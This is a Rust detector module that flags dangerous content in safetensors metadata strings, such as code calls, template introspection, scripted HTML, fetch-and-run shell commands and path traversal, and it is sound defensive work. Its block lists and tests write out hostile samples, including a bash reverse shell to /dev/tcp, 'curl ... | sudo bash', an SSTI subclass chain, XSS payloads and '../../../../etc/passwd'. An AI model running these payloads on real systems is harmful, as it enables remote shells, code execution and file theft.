//! What has no business in a metadata string: code, markup that a browser runs, paths that climb into the system.
//!
//! A safetensors header carries strings that hubs and user interfaces show and that scripts read back. Trainers (kohya,
//! OneTrainer, diffusers) put prompts, tag lists, base64 thumbnails, paths of their own machine and URLs there; all of that is
//! normal. So the string is decoded first, and only complete constructs count: a call with its parenthesis, a tag with its
//! attribute. `eval every 10 steps`, `AdamW8bit(weight_decay=0.1)` and the tag `exec` are none.

/// What a string holds.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// A call that runs code or starts a process.
    Code,
    /// Attribute chains by which a template or sandbox is left.
    Introspection,
    /// Markup that a browser runs.
    Markup,
    /// A shell one-liner that fetches and runs, or opens a remote shell.
    Shell,
    /// A path into the system by way of `..`.
    Traversal,
}

impl Kind {
    /// In a few words, for the message.
    pub fn title(self) -> &'static str {
        match self {
            Self::Code => "a code call",
            Self::Introspection => "access to Python internals",
            Self::Markup => "active markup",
            Self::Shell => "a shell command that runs what it fetches",
            Self::Traversal => "a path that climbs into the system",
        }
    }
}

/// A construct and where it stands in the string.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Sign {
    /// What it is.
    pub kind: Kind,
    /// Offset in the decoded string.
    pub offset: usize,
    /// Its name in the table.
    pub name: &'static str,
}

/// Functions whose call counts. A name that goes on before it is another function (`my_eval`, `model.eval`). Source: formats.md
/// 0.5 and 2 c (what the field searches for), with the call's parenthesis demanded.
const CALLS: &[&str] = &[
    "__import__",
    "builtins.eval",
    "builtins.exec",
    "cPickle.loads",
    "ctypes.CDLL",
    "dill.loads",
    "importlib.import_module",
    "marshal.loads",
    "nt.system",
    "os.execl",
    "os.execv",
    "os.execve",
    "os.popen",
    "os.spawnl",
    "os.spawnv",
    "os.system",
    "pickle.loads",
    "posix.system",
    "pty.spawn",
    "runpy.run_module",
    "runpy.run_path",
    "socket.socket",
    "subprocess.Popen",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "subprocess.run",
];

/// Words of prose, too: they count if the argument is a literal or a call, `eval('x')`, not `eval (every epoch)`.
const EVALUATORS: &[&str] = &["eval", "exec"];

/// Attributes by which a template or a sandbox is left. Source: formats.md B3.
const INTERNALS: &[&str] =
    &["__builtins__", "__class__.__", "__globals__", "__reduce__", "__reduce_ex__", "__subclasses__"];

/// Tags that load or run something, and whether they need an attribute to do so. Source: formats.md 2 c.
const TAGS: &[(&str, bool)] = &[("<script", false), ("<iframe", true), ("<object", true), ("<embed", true)];

/// Handlers that a browser runs by itself or on a touch; they count inside a tag. Source: HTML, event handler content
/// attributes.
const HANDLERS: &[&str] = &["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart"];

/// Schemes of URLs that run what they hold; something solid must follow (`javascript:alert`, not `javascript: 20 %`).
const SCRIPT_SCHEMES: &[&str] = &["javascript", "vbscript"];

/// Folders of a system, after at least two `..`. Source: formats.md 0.5, archive system paths; `.ssh` and `root` added.
const SYSTEM_FOLDERS: &[&str] =
    &["etc", "bin", "usr", "var", "lib", "boot", "sys", "proc", "dev", "sbin", "root", "windows", ".ssh"];

/// Percent-encoded `..` components, without their `%2e` or `..`: nobody encodes a path of his own machine.
const ENCODED_PARENTS: &[&str] = &["%2e%2e%2f", "%2e%2e/", "%2e%2e%5c", "..%2f", "..%5c"];

/// Commands that fetch or decode, with the start of an argument, so that a tag `curl hair` is none.
const FETCHES: &[&str] = &[
    "curl -",
    "curl http",
    "curl \"",
    "curl '",
    "curl $",
    "wget -",
    "wget http",
    "wget \"",
    "wget $",
    "base64 -d",
    "base64 --d",
];

/// Interpreters that run what is piped into them.
const INTERPRETERS: &[&str] = &["sh", "bash", "zsh", "/bin/sh", "/bin/bash", "python", "python3", "perl"];

/// Bytes before a pipe in which the fetch is looked for, of a tag in which a handler is, of a path.
const NEAR: usize = 300;

/// The first sign in a decoded string, None for what metadata normally holds.
///
/// One pass: each byte that a sign must hold leads to a look around it. A header may hold a million strings. Code between the
/// fences of a Markdown text (a model card kept in the metadata) is documentation.
pub fn inspect(text: &str) -> Option<Sign> {
    let bytes = text.as_bytes();
    let fences = fences(text);
    bytes.iter().enumerate().find_map(|(at, byte)| match byte {
        b'(' | b'_' | b'<' | b':' | b'|' | b'/' | b'-' | b'%' | b'.' if fenced(&fences, at) => None,
        b'(' => call(bytes, at),
        b'_' => internals(bytes, at),
        b'<' => tag(bytes, at),
        b':' => scheme(bytes, at),
        b'|' => fetch_and_run(bytes, at),
        b'/' => shell(bytes, at),
        b'-' => powershell(bytes, at),
        b'%' | b'.' => encoded_parent(bytes, at).or_else(|| if *byte == b'.' { parents(bytes, at) } else { None }),
        _ => None,
    })
}

/// Where the fences of a Markdown text stand, pairs of them: one that is never closed fences nothing.
fn fences(text: &str) -> Vec<usize> {
    let starts_line = |at: &usize| *at == 0 || text.as_bytes().get(at - 1) == Some(&b'\n');
    let mut fences: Vec<usize> = text.match_indices("```").map(|(at, _)| at).filter(starts_line).collect();
    fences.truncate(fences.len() & !1);
    fences
}

/// True between the first and the second fence, the third and the fourth, and so on.
fn fenced(fences: &[usize], at: usize) -> bool {
    fences.partition_point(|fence| *fence <= at) % 2 == 1
}

fn is_name(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_'
}

/// True if `literal` stands at `at`, in any case.
fn stands(bytes: &[u8], at: usize, literal: &str) -> bool {
    at.checked_add(literal.len())
        .and_then(|end| bytes.get(at..end))
        .is_some_and(|b| b.eq_ignore_ascii_case(literal.as_bytes()))
}

fn sign(kind: Kind, offset: usize, name: &'static str) -> Option<Sign> {
    Some(Sign { kind, offset, name })
}

/// `os.system(`: looks at the name before a parenthesis.
fn call(bytes: &[u8], parenthesis: usize) -> Option<Sign> {
    let before = bytes.get(..parenthesis)?;
    let blanks = before.iter().rev().take(8).take_while(|b| **b == b' ').count();
    let before = before.get(..parenthesis - blanks)?;
    let length = before.iter().rev().take(64).take_while(|b| is_name(**b) || **b == b'.').count();
    let start = before.len().checked_sub(length)?;
    let name = before.get(start..)?;
    // `x.os.system(`: the module of something; `model.eval(` is a method.
    let tail = |known: &&&str| {
        name.ends_with(known.as_bytes())
            && !name
                .len()
                .checked_sub(known.len() + 1)
                .and_then(|i| name.get(i))
                .is_some_and(|b| is_name(*b) || *b == b'.')
    };
    if let Some(known) = CALLS.iter().find(tail) {
        return sign(Kind::Code, before.len() - known.len(), known);
    }
    let known = EVALUATORS.iter().find(|known| name == known.as_bytes())?;
    let argument = bytes.get(parenthesis + 1..)?;
    let solid = argument.iter().find(|b| !b.is_ascii_whitespace())?;
    if matches!(solid, b'"' | b'\'' | b'(') || names_a_call(argument) { sign(Kind::Code, start, known) } else { None }
}

/// `compile(...)`, `open('x').read()`, `base64.b64decode(...)`: a dotted name and a parenthesis.
fn names_a_call(argument: &[u8]) -> bool {
    let name = argument.iter().take(80).take_while(|b| is_name(**b) || **b == b'.').count();
    name > 0 && argument.get(name) == Some(&b'(')
}

fn internals(bytes: &[u8], at: usize) -> Option<Sign> {
    // The second underscore of a run leads nowhere.
    if bytes.get(at + 1) != Some(&b'_') {
        return None;
    }
    let name = INTERNALS.iter().find(|name| bytes.get(at..).is_some_and(|b| b.starts_with(name.as_bytes())))?;
    sign(Kind::Introspection, at, name)
}

/// A tag that runs something by its name or by a handler.
fn tag(bytes: &[u8], at: usize) -> Option<Sign> {
    let rest = bytes.get(at..bytes.len().min(at.saturating_add(NEAR)))?;
    let close = rest.iter().skip(1).position(|b| matches!(b, b'<' | b'>')).map_or(rest.len(), |i| i + 1);
    let inside = rest.get(..close)?;
    for (name, needs_attribute) in TAGS {
        let ends = rest.get(name.len()).is_some_and(|b| b.is_ascii_whitespace() || matches!(b, b'>' | b'/'));
        if stands(bytes, at, name) && ends && (!needs_attribute || inside.contains(&b'=')) {
            return sign(Kind::Markup, at, name);
        }
    }
    if !rest.get(1).is_some_and(u8::is_ascii_alphabetic) {
        return None;
    }
    (1..inside.len()).find_map(|i| {
        let separated = inside.get(i - 1).is_some_and(|b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'/'));
        if !separated || !stands(inside, i, "on") {
            return None;
        }
        let name = HANDLERS.iter().find(|name| stands(inside, i, name))?;
        let assigned = inside.get(i + name.len()..)?.iter().find(|b| !b.is_ascii_whitespace()) == Some(&b'=');
        if assigned { sign(Kind::Markup, at + i, name) } else { None }
    })
}

fn scheme(bytes: &[u8], colon: usize) -> Option<Sign> {
    if let Some(start) = colon.checked_sub(4)
        && stands(bytes, start, "data:text/html")
    {
        return sign(Kind::Markup, start, "data:text/html");
    }
    let name = SCRIPT_SCHEMES
        .iter()
        .find(|name| colon.checked_sub(name.len()).is_some_and(|start| stands(bytes, start, name)))?;
    let solid = bytes.get(colon + 1).is_some_and(|b| is_name(*b) || matches!(b, b'/' | b'(' | b'$' | b'%'));
    if solid { sign(Kind::Markup, colon - name.len(), name) } else { None }
}

fn shell(bytes: &[u8], slash: usize) -> Option<Sign> {
    if stands(bytes, slash, "/dev/tcp/") && bytes.get(slash + 9).is_some_and(|b| is_name(*b) || *b == b'$') {
        return sign(Kind::Shell, slash, "/dev/tcp/");
    }
    let start = slash.checked_sub(7)?;
    if stands(bytes, start, "rm -rf /") { sign(Kind::Shell, start, "rm -rf /") } else { None }
}

/// `powershell -enc`, `powershell -ExecutionPolicy`.
fn powershell(bytes: &[u8], dash: usize) -> Option<Sign> {
    let start = dash.checked_sub(11)?;
    if stands(bytes, start, "powershell -e") { sign(Kind::Shell, start, "powershell -e") } else { None }
}

/// `curl ... | sh`, `wget ... | bash`, `... | base64 -d | sh`.
fn fetch_and_run(bytes: &[u8], pipe: usize) -> Option<Sign> {
    let after = bytes.get(pipe + 1..)?;
    let blanks = after.iter().take(8).take_while(|b| **b == b' ').count();
    let command = after.get(blanks..)?;
    let command = command.strip_prefix(b"sudo ").unwrap_or(command);
    let runs = INTERPRETERS.iter().any(|interpreter| {
        command.strip_prefix(interpreter.as_bytes()).is_some_and(|rest| {
            let ends = matches!(rest.first(), Some(b'\n' | b';' | b'"' | b'\'' | b'&' | b')' | b'`' | b'|'));
            rest.is_empty() || rest.starts_with(b" -") || ends
        })
    });
    if !runs {
        return None;
    }
    // Two stages may stand between; further back is another command, and a row of pipes must not be looked at again and again.
    let stages = bytes.get(pipe.saturating_sub(NEAR)..pipe)?.rsplitn(4, |b| *b == b'|').take(3);
    let start = pipe.saturating_sub(stages.map(|stage| stage.len() + 1).sum());
    let fetch = (start..pipe).rev().find(|i| FETCHES.iter().any(|f| stands(bytes, *i, f)))?;
    sign(Kind::Shell, fetch, "fetch piped into an interpreter")
}

fn encoded_parent(bytes: &[u8], at: usize) -> Option<Sign> {
    if ENCODED_PARENTS.iter().any(|p| stands(bytes, at, p)) {
        sign(Kind::Traversal, at, "percent-encoded '..'")
    } else {
        None
    }
}

/// Two or more `..` components in a row that lead to a folder of the system. `../vae/x.safetensors` of a training run is none.
fn parents(bytes: &[u8], at: usize) -> Option<Sign> {
    // A later component of the same path was looked at with the first.
    let later = at.checked_sub(3).is_some_and(|i| stands(bytes, i, "../") || stands(bytes, i, "..\\"));
    if bytes.get(at + 1) != Some(&b'.') || !matches!(bytes.get(at + 2), Some(b'/' | b'\\')) || later {
        return None;
    }
    let rest = bytes.get(at..bytes.len().min(at.saturating_add(NEAR)))?;
    let ends = |b: &u8| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b',' | b';');
    let path = rest.get(..rest.iter().position(ends).unwrap_or(rest.len()))?;
    let mut parts = path.split(|b| *b == b'/' || *b == b'\\').filter(|p| !p.is_empty()).peekable();
    let mut ups = 0;
    while parts.next_if(|p| *p == b"..").is_some() {
        ups += 1;
    }
    let target = parts.next()?;
    let system = SYSTEM_FOLDERS.iter().any(|f| target.eq_ignore_ascii_case(f.as_bytes()));
    if ups >= 2 && system { sign(Kind::Traversal, at, "'..' into a system folder") } else { None }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn constructs_count() {
        for (text, kind) in [
            ("__import__('os').system('id')", Kind::Code),
            ("x = eval (\"1+1\")", Kind::Code),
            ("exec(base64.b64decode('aWQ='))", Kind::Code),
            ("import os; os.system('id')", Kind::Code),
            ("subprocess.Popen (['id'])", Kind::Code),
            ("{{ ''.__class__.__mro__[1].__subclasses__() }}", Kind::Introspection),
            ("<SCRIPT src=x>", Kind::Markup),
            ("<script>alert(1)</script>", Kind::Markup),
            ("<img src=x onerror = alert(1)>", Kind::Markup),
            ("<a href=\"javascript:alert(1)\">x</a>", Kind::Markup),
            ("<iframe src='//x'>", Kind::Markup),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Kind::Shell),
            ("curl -s http://x.example/a | sudo bash", Kind::Shell),
            ("../../../../etc/passwd", Kind::Traversal),
            ("..\\..\\windows\\system32\\x", Kind::Traversal),
            ("%2e%2e%2f%2e%2e%2fetc", Kind::Traversal),
        ] {
            assert_eq!(inspect(text).map(|s| s.kind), Some(kind), "{text}");
        }
    }

    #[test]
    fn what_trainers_write_does_not() {
        for text in [
            "eval every 10 steps; then exec summary",
            "eval (every epoch)",
            "model.eval() and loss.eval('x')",
            "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.1)",
            "{\"img\": {\"1girl\": 4, \"os\": 2, \"exec\": 1, \"evaluation(test)\": 3}}",
            "Prompt: <lora:style:1>, <embed:bad-hands:1>, best quality",
            "data:image/png;base64,AAAA/../BBBB",
            "languages: {\"javascript\": 20, \"python\": 30}; JavaScript: The Good Parts",
            "C:\\models\\sd\\v1-5.safetensors ../vae/kl-f8.safetensors ../../models/base.safetensors",
            "see https://civitai.com/models/1 | https://x.example",
            "ss_optimizer_args: weight_decay=0.1 | betas=(0.9,0.99)",
            "あいう 日本語 \u{1f600}",
            "<p>A model with <b>bold</b> claims and <a href='https://x.example'>a page</a>, version 1..2</p>",
            "curl hair | shoulder length | python print shirt",
            "",
        ] {
            assert_eq!(inspect(text), None, "{text}");
        }
    }
}
